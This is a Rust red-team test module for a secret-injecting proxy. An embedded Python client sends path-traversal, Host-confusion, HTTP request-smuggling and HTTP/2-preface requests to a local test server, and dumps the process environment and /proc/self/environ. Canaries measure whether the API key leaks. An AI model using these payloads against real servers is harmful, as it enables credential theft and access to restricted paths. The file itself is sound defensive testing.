//! Attacks on a secret that is put in on the way to its host: by a client of the agent's making.
//!
//! Its host tells what it got. What counts is the value in what the client was told or wrote, and the
//! value at the host anywhere but in the one field, below the one path, that it is for.

use std::path::{Path, PathBuf};

use zagi::redteam::{Canaries, Canary};

use super::{Mode, Shown};
use crate::broker::Broker;
use crate::https::{self, Https};
use crate::machine::{Machine, Said};

/// Sends one request by hand, over TLS to the host; prints what came back.
const CLIENT: &str = r#"
import base64, os, re, socket, ssl, sys
port, key = int(sys.argv[1]), os.environ['API_KEY']
def ask(name, head, alpn=None, body=b''):
    try:
        context = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
        if alpn: context.set_alpn_protocols([alpn])
        with socket.create_connection(('localhost', port), timeout=5) as plain:
            with context.wrap_socket(plain, server_hostname='localhost') as tls:
                text = head.replace('HOST', f'localhost:{port}').replace('KEY', key)
                text = text.replace('\n', f'\nX-Attempt: {name}\n', 1).replace('\n', '\r\n')
                tls.sendall(text.encode() + body)
                answer = b''
                while True:
                    more = tls.recv(65536)
                    if not more: break
                    answer += more
                    # To its end: who leaves before lets the host stop, too, and not read on.
                    first, end, rest = answer.partition(b'\r\n\r\n')
                    said = re.search(rb'(?i)content-length: *(\d+)', first)
                    if end and len(rest) >= max(1, int(said[1]) if said else 1): break
                # The host has the second yet to answer.
                if name == 'two-requests':
                    tls.settimeout(2)
                    try:
                        while more := tls.recv(65536): answer += more
                    except TimeoutError: pass
    except OSError as e: answer = str(e).encode()
    sys.stdout.buffer.write(b'--- ' + name.encode() + b'\n' + answer + b'\n')
bearer = 'Host: HOST\nAuthorization: Bearer KEY\nConnection: close\n\n'
print('--- environment'); print(os.environ, open('/proc/self/environ').read(), open('/proc/self/stat').read())
ask('reflected', 'GET /v1/x HTTP/1.1\n' + bearer)
ask('reflected-upgrade', 'GET /v1/x HTTP/1.1\nUpgrade: websocket\n' + bearer)
ask('other-path', 'GET /admin HTTP/1.1\n' + bearer)
ask('dots', 'GET /v1/../admin HTTP/1.1\n' + bearer)
ask('coded-dots', 'GET /v1/%2e%2e/admin HTTP/1.1\n' + bearer)
ask('coded-slash', 'GET /v1/..%2fadmin HTTP/1.1\n' + bearer)
ask('backslash', 'GET /v1/..\\admin HTTP/1.1\n' + bearer)
ask('nul', 'GET /v1/\0/../../admin HTTP/1.1\n' + bearer)
ask('absolute', 'GET https://other.example/v1/x HTTP/1.1\n' + bearer)
ask('other-host', 'GET /v1/x HTTP/1.1\n' + bearer.replace('HOST', 'other.example'))
ask('two-hosts', 'GET /v1/x HTTP/1.1\nHost: other.example\n' + bearer)
ask('two-requests', 'GET /v1/x HTTP/1.1\nHost: HOST\nContent-Length: 0\nTransfer-Encoding: chunked\n\n'
    '0\n\nGET /admin HTTP/1.1\nX-Attempt: two-requests\n' + bearer)
ask('http2', 'PRI * HTTP/2.0\n\nSM\n\nGET /admin HTTP/1.1\nX-Attempt: http2\n' + bearer, 'h2')
ask('other-field', 'GET /v1/x HTTP/1.1\nX-Key: KEY\n' + bearer.replace('Bearer KEY', 'none'))
ask('other-format', 'GET /v1/x HTTP/1.1\n' + bearer.replace('Bearer', 'Token'))
ask('coded', 'GET /v1/x HTTP/1.1\n' + bearer.replace('Bearer KEY', 'Basic ' + base64.b64encode(key.encode()).decode()))
ask('query', 'GET /v1/x?key=KEY HTTP/1.1\n' + bearer.replace('Bearer KEY', 'none'))
ask('sent-on', 'GET /v1/' + open('file').read().strip() + ' HTTP/1.1\n' + bearer)
"#;

/// What the host must not have got, by vector.
const SENT: [(u8, &str); 15] = [
    (12, "other-path"),
    (13, "dots"),
    (13, "coded-dots"),
    (13, "coded-slash"),
    (13, "backslash"),
    (13, "nul"),
    (13, "absolute"),
    (13, "other-host"),
    (13, "two-hosts"),
    (14, "two-requests"),
    (15, "other-field"),
    (15, "other-format"),
    (15, "coded"),
    (15, "query"),
    (14, "http2"),
];

/// A project with a key for its host.
struct Stage {
    machine: Machine,
    upstream: Https,
    dir: PathBuf,
    canaries: Canaries,
    key: String,
    _broker: Option<Broker>,
}

fn stage(mode: Mode) -> Stage {
    let mut machine = Machine::new(mode.who());
    let canaries = Canaries::new(["value", "sent-on"]).expect("the kernel has random bytes");
    // A token has no colons.
    let key = canaries.of("value").expect("it has one").text().replace(':', "_");
    let upstream = https::start(&key);
    let work = machine.work();
    let system = std::env::var("SSL_CERT_FILE")
        .unwrap_or_else(|_| "/etc/ssl/certs/ca-certificates.crt".into());
    let roots = std::fs::read_to_string(system).unwrap_or_default() + &upstream.certificate;
    let file = work.join("roots.pem");
    std::fs::write(&file, roots).expect("it can be written");
    machine.set("SSL_CERT_FILE", file.to_str().expect("text"));
    let sent = canaries.of("sent-on").expect("it has one");
    let make = format!(
        "mkdir -p origin $HOME; cd origin; git init -q; echo {} > file; git add -A; \
         git -c user.name=T -c user.email=t@localhost commit -qm first",
        sent.text().replace(':', "_")
    );
    machine.sh(&work, &make).ok();
    let _broker = mode.broker_that_trusts(&machine, Some(&upstream.certificate));
    let shared: &[&str] = if _broker.is_some() { &["--allow-other"] } else { &[] };
    machine.zagi(&[&["mount", "--no-deps", "./origin", "w"], shared].concat()).ok();
    let dir = work.join("w");
    std::fs::write(work.join("client"), CLIENT).expect("it can be written");
    let script = format!(
        "cp ../client client.py; printf %s {key} | {} secrets set API_KEY --host localhost:{} \
         --header Authorization --format 'Bearer {{}}' --path '/v1/*'",
        machine.program().display(),
        upstream.port
    );
    machine.sh(&dir, &script).ok();
    Stage { machine, upstream, dir, canaries, key, _broker }
}

pub(super) fn measure(mode: Mode) -> Vec<Shown> {
    let Stage { machine, upstream, dir, canaries, key, _broker } = stage(mode);
    let [value, sent] = ["value", "sent-on"].map(|id| canaries.of(id).expect("it has one"));
    let port = upstream.port.to_string();
    let mut bare = machine.command("/usr/bin/python3", &dir);
    let control = Said::of(bare.args(["client.py", &port]).env("API_KEY", &key));
    let control_heads = upstream.heads();
    let argv = ["run", "--", "/usr/bin/python3", "client.py", &port];
    let inside = Said::of(&mut machine.zagi_in(&dir, &argv));
    let inside_heads = upstream.heads();
    let told = |id: &str, said: &Said| part(&said.out, id);
    let mut shown: Vec<Shown> = [(1, "environment"), (11, "reflected"), (14, "reflected-upgrade")]
        .into_iter()
        .map(|(vector, id)| {
            // In all that was seen, not in its own part alone.
            let all = format!("{}{}", inside.out, inside.err);
            let said = told(id, &control);
            let within = found(value, &all).map_err(|()| told(id, &inside));
            Shown::new(vector, id, found(value, &said).map_err(|()| said.clone()), within)
        })
        .collect();
    shown.extend(SENT.iter().map(|(vector, id)| {
        let got = |heads: &[String], said: &Said| {
            let astray = heads.iter().any(|head| is_of(head, id) && is_astray(head, value));
            astray.then_some(()).ok_or_else(|| told(id, said))
        };
        Shown::new(*vector, id, got(&control_heads, &control), got(&inside_heads, &inside))
    }));
    // What the program sees besides, it can send where it may send anything.
    let sent_on = |heads: &[String]| {
        let has = heads.iter().any(|head| is_of(head, "sent-on") && found(sent, head).is_ok());
        has.then_some(()).ok_or_else(|| "it did not arrive".to_owned())
    };
    shown.push(Shown::new(12, "sent-on", sent_on(&control_heads), sent_on(&inside_heads)));
    // Whatever it was that sent it.
    let astray: Vec<&String> = inside_heads.iter().filter(|head| is_astray(head, value)).collect();
    assert!(astray.is_empty(), "{astray:?}");
    // And where it is for, it arrives.
    let arrived =
        inside_heads.iter().any(|head| is_of(head, "reflected") && found(value, head).is_ok());
    assert!(arrived, "{}{}", inside.out, inside.err);
    recorded(&machine, &dir, inside_heads.iter().filter(|head| found(value, head).is_ok()).count());
    shown
}

/// There is a row for each time that the value came.
fn recorded(machine: &Machine, dir: &Path, came: usize) {
    let log = Said::of(&mut machine.zagi_in(dir, &["secrets", "log", "--verify"])).ok();
    let log = format!("{}{}", log.out, log.err);
    let rows = Said::of(&mut machine.zagi_in(dir, &["secrets", "log"])).ok().out;
    let put = rows.matches("put     API_KEY").count();
    assert!(came > 0 && put >= came, "{came} came: {rows}{log}");
}

fn found(value: &Canary, text: &str) -> Result<(), ()> {
    value.found_in(text.as_bytes()).map(drop).ok_or(())
}

fn part(said: &str, id: &str) -> String {
    let mut parts = said.split("--- ");
    let part = parts.find(|part| part.lines().next() == Some(id)).unwrap_or("nothing\n");
    let lines = part.lines().skip(1).filter(|line| !line.trim().is_empty());
    lines.take(12).collect::<Vec<_>>().join(" ")
}

/// A request that a server may have read out of another's belongs to that, too.
fn is_of(head: &str, id: &str) -> bool {
    head.contains(&format!("X-Attempt: {id}\r\n")) || head.contains(&format!("x-attempt: {id}\r\n"))
}

/// Whether a head holds the value where it is not for.
fn is_astray(head: &str, value: &Canary) -> bool {
    let mut lines = head.lines();
    let target = lines.next().and_then(|line| line.split(' ').nth(1)).unwrap_or_default();
    // As some server may understand it.
    let path =
        target.to_ascii_lowercase().replace("%2e", ".").replace("%2f", "/").replace('\\', "/");
    let path = path.split('?').next().unwrap_or_default();
    let below = path.starts_with("/v1/") && !path.contains("/..");
    let host = |line: &str| {
        line.to_ascii_lowercase()
            .strip_prefix("host:")
            .is_some_and(|h| !h.trim().starts_with("localhost"))
    };
    let elsewhere = head.lines().any(host);
    let in_its_field = |line: &str| line.to_ascii_lowercase().starts_with("authorization: bearer ");
    let others: String =
        head.lines().filter(|line| !in_its_field(line)).collect::<Vec<_>>().join("\n");
    match below && !elsewhere {
        true => found(value, &others).is_ok(),
        false => found(value, head).is_ok(),
    }
}
